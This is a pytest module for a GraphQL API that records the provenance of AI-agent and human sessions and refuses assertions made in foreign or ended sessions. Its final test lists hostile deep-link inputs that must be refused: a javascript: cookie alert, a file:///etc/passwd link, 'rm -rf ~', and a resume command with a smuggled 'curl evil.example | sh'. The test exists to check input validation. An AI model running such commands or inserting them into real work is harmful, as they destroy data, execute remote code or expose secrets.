"""R13: a session records what its client said about itself, and only that.

What the client did not give is listed in ``provenanceMissing`` in a fixed
order and never guessed; an item's provenance is partial when its session is,
or when an agent asserted it outside any session.
"""

from __future__ import annotations

import uuid
from typing import Any

import pytest

from tests.graphql import Api, World
from tests.support import ASSERT_ITEM, assert_code, database_state, refused_as_bad_input

PARTS = ("client.tool", "client.version", "externalId", "deepLink")
FULL = {
    "client.tool": "claude-code",
    "client.version": "1.0.98",
    "externalId": "8f1c2e4a-session",
    "deepLink": "claude --resume 8f1c2e4a-session",
}
SESSION_FIELDS = "id provenancePartial provenanceMissing client { tool version } externalId deepLink"
START = f"mutation($i: StartSessionInput!) {{ startSession(input: $i) {{ {SESSION_FIELDS} }} }}"
PROVENANCE = """query($i: ID!) { item(id: $i) { provenance {
  assertedBy { id } actorKind partial missing session { id client { tool version } } } } }"""


def session_input(world: World, given: dict[str, str]) -> dict[str, Any]:
    """A StartSessionInput carrying exactly the ``given`` parts."""
    value: dict[str, Any] = {"projectId": world.project_id, "task": "migrate billing"}
    client = {
        key: given[part]
        for key, part in (("tool", "client.tool"), ("version", "client.version"))
        if part in given
    }
    if client:
        value["client"] = client
    if "externalId" in given:
        value["externalId"] = given["externalId"]
    if "deepLink" in given:
        value["deepLink"] = given["deepLink"]
    return value


async def start(api: Api, token: str, value: dict[str, Any]) -> dict[str, Any]:
    return (await api.run(token, START, i=value))["startSession"]


async def provenance(api: Api, token: str, item_id: str) -> dict[str, Any]:
    return (await api.run(token, PROVENANCE, i=item_id))["item"]["provenance"]


async def test_r13_full_session_is_complete(api: Api, world: World) -> None:
    session = await start(api, world.agent.token, session_input(world, FULL))
    assert (session["provenancePartial"], session["provenanceMissing"]) == (False, [])
    assert session["client"] == {"tool": "claude-code", "version": "1.0.98"}
    assert (session["externalId"], session["deepLink"]) == (FULL["externalId"], FULL["deepLink"])


OMISSIONS = [
    ("client.tool",),
    ("client.version",),
    ("client.tool", "client.version"),
    ("externalId",),
    ("deepLink",),
    ("client.version", "deepLink"),
    ("externalId", "deepLink"),
    PARTS,
]


@pytest.mark.parametrize("omitted", OMISSIONS, ids=["+".join(o) for o in OMISSIONS])
async def test_r13_missing_parts_are_listed_never_guessed(
    api: Api, world: World, omitted: tuple[str, ...]
) -> None:
    given = {part: value for part, value in FULL.items() if part not in omitted}
    session = await start(api, world.agent.token, session_input(world, given))
    assert session["provenancePartial"] is True
    assert session["provenanceMissing"] == [part for part in PARTS if part in omitted]
    if "client.tool" in omitted and "client.version" in omitted:
        assert session["client"] is None
    else:
        assert session["client"] == {
            "tool": given.get("client.tool"),
            "version": given.get("client.version"),
        }
    assert session["externalId"] == given.get("externalId")
    assert session["deepLink"] == given.get("deepLink")
    # Reading it back gives the same answer as the mutation did.
    again = await api.run(
        world.human.token, f"query($s: ID!) {{ session(id: $s) {{ {SESSION_FIELDS} }} }}", s=session["id"]
    )
    assert again["session"] == session


async def test_r13_blank_parts_count_as_missing(api: Api, world: World) -> None:
    value = session_input(world, FULL)
    value["client"] = {"tool": "  ", "version": ""}
    value["deepLink"] = " "
    session = await start(api, world.agent.token, value)
    assert session["provenanceMissing"] == ["client.tool", "client.version", "deepLink"]
    assert session["client"] is None


@pytest.mark.parametrize(
    "omitted",
    [(), ("client.version",), ("client.tool", "client.version", "deepLink")],
    ids=["complete", "no-version", "no-client-no-link"],
)
async def test_r13_item_provenance_follows_its_session(
    api: Api, world: World, omitted: tuple[str, ...]
) -> None:
    given = {part: value for part, value in FULL.items() if part not in omitted}
    session = await start(api, world.agent.token, session_input(world, given))
    item = await api.assert_item(
        world.agent.token,
        projectId=world.project_id,
        statement="Invoices are immutable",
        sessionId=session["id"],
    )
    found = await provenance(api, world.human.token, item["id"])
    assert found == {
        "assertedBy": {"id": world.agent.id},
        "actorKind": "AGENT",
        "partial": session["provenancePartial"],
        "missing": session["provenanceMissing"],
        "session": {"id": session["id"], "client": session["client"]},
    }


async def test_r13_human_item_in_a_partial_session_is_partial(api: Api, world: World) -> None:
    session = await start(api, world.human.token, session_input(world, {"client.tool": "cursor"}))
    item = await api.assert_item(
        world.human.token, projectId=world.project_id, statement="Use pnpm", sessionId=session["id"]
    )
    found = await provenance(api, world.agent.token, item["id"])
    assert (found["partial"], found["missing"]) == (True, ["client.version", "externalId", "deepLink"])
    assert found["actorKind"] == "HUMAN"


async def test_r13_agent_item_outside_a_session_is_partial(api: Api, world: World) -> None:
    item = await api.assert_item(world.agent.token, projectId=world.project_id, statement="Node 22")
    found = await provenance(api, world.human.token, item["id"])
    assert (found["partial"], found["missing"], found["session"]) == (True, ["session"], None)
    assert found["actorKind"] == "AGENT"


async def test_r13_human_item_outside_a_session_is_complete(api: Api, world: World) -> None:
    item = await api.assert_item(world.human.token, projectId=world.project_id, statement="Node 22")
    found = await provenance(api, world.agent.token, item["id"])
    assert (found["partial"], found["missing"], found["session"]) == (False, [], None)
    assert found["actorKind"] == "HUMAN"


# --- a session can only carry its own actor's assertions in its own project ----------------------


async def assert_refused_session(api: Api, world: World, session_id: str) -> None:
    await refused_as_bad_input(
        api,
        world.agent.token,
        ASSERT_ITEM,
        "input.sessionId",
        i={"projectId": world.project_id, "kind": "FACT", "statement": "Borrowed", "sessionId": session_id},
    )


async def test_r13_assertion_in_another_actors_session_is_refused(api: Api, world: World) -> None:
    session = await start(api, world.human.token, session_input(world, FULL))
    await assert_refused_session(api, world, session["id"])


async def test_r13_assertion_in_another_projects_session_is_refused(api: Api, world: World) -> None:
    other_project = await api.project(world.human.token, "frontend")
    await api.add_member(world.human.token, other_project, world.agent.id)
    value = {**session_input(world, FULL), "projectId": other_project}
    session = await start(api, world.agent.token, value)
    await assert_refused_session(api, world, session["id"])


async def test_r13_assertion_in_an_ended_session_is_refused(api: Api, world: World) -> None:
    session = await start(api, world.agent.token, session_input(world, FULL))
    ended = await api.run(
        world.agent.token, "mutation($s: ID!) { endSession(id: $s) { endedAt } }", s=session["id"]
    )
    assert ended["endSession"]["endedAt"]
    await assert_refused_session(api, world, session["id"])


async def test_r13_assertion_in_a_session_nobody_can_see_is_not_found_and_writes_nothing(
    api: Api, world: World
) -> None:
    """An unknown session id, and one of another workspace (invisible under row-level security)."""
    elsewhere = await api.world()
    foreign = await start(api, elsewhere.human.token, session_input(elsewhere, FULL))
    before = await database_state(api.admin_engine)
    for session_id in (str(uuid.uuid4()), foreign["id"]):
        error = await api.fail(
            world.agent.token,
            ASSERT_ITEM,
            i={"projectId": world.project_id, "kind": "FACT", "statement": "Lost", "sessionId": session_id},
        )
        assert_code(error, "NOT_FOUND")
        assert session_id in error["message"], error
    assert await database_state(api.admin_engine) == before


async def test_r13_assertion_in_own_open_session_is_accepted(api: Api, world: World) -> None:
    """The control for the three refusals above."""
    session = await start(api, world.agent.token, session_input(world, FULL))
    before = await database_state(api.admin_engine)
    item = await api.assert_item(
        world.agent.token, projectId=world.project_id, statement="Mine", sessionId=session["id"]
    )
    assert (await provenance(api, world.agent.token, item["id"]))["session"]["id"] == session["id"]
    assert (await database_state(api.admin_engine))["items"][0] == before["items"][0] + 1


PLACEHOLDER = (
    "mutation($i: StartSessionInput!) { startSession(input: $i) {"
    " provenancePartial provenanceMissing client { tool version placeholderVersion } } }"
)


@pytest.mark.parametrize(
    ("tool", "version", "placeholder"),
    [
        ("cursor-vscode", "1.0.0", True),  # Cursor's MCP clientInfo, whatever Cursor's release
        ("codex-cli", "0.0.0", True),  # the sanitized Codex transcript's cli_version
        ("claude-code", "1.0.0", False),  # a real release of another client
        ("cursor-vscode", "1.7.2", False),
    ],
)
async def test_r13_a_placeholder_version_is_recorded_as_sent_and_reported_missing(
    api: Api, world: World, tool: str, version: str, placeholder: bool
) -> None:
    given = {**FULL, "client.tool": tool, "client.version": version}
    data = await api.run(world.agent.token, PLACEHOLDER, i=session_input(world, given))
    session = data["startSession"]
    assert session["client"] == {"tool": tool, "version": version, "placeholderVersion": placeholder}
    assert session["provenanceMissing"] == (["client.version"] if placeholder else [])
    assert session["provenancePartial"] is placeholder


@pytest.mark.parametrize(
    "link",
    [
        "https://claude.ai/chat/8f1c2e4a",
        "http://intranet.example/agents/runs/17",
        "claude --resume 8f1c2e4a-session",
        "claude -r 8f1c2e4a-session",
        "codex resume 0199a213-81c0-7800-8aa1-bbab2a035a53",
        "gemini --resume 3",
    ],
)
async def test_issue_21_a_deep_link_is_a_url_or_a_clients_resume_command(
    api: Api, world: World, link: str
) -> None:
    session = await start(api, world.agent.token, {"projectId": world.project_id, "deepLink": link})
    assert session["deepLink"] == link


@pytest.mark.parametrize(
    "link",
    [
        "javascript:alert(document.cookie)",
        "data:text/html,<script>alert(1)</script>",
        "file:///etc/passwd",
        "https://",
        "claude --resume x; curl evil.example | sh",
        "rm -rf ~",
        "vscode://open?file=/etc/passwd",
    ],
)
async def test_issue_21_a_deep_link_that_is_a_script_or_a_command_is_refused(
    api: Api, world: World, link: str
) -> None:
    """``deepLink`` stored ``javascript:`` and ``data:`` URLs, shown to people as a way back."""
    value = {"projectId": world.project_id, "deepLink": link}
    await refused_as_bad_input(api, world.agent.token, START, "input.deepLink", i=value)
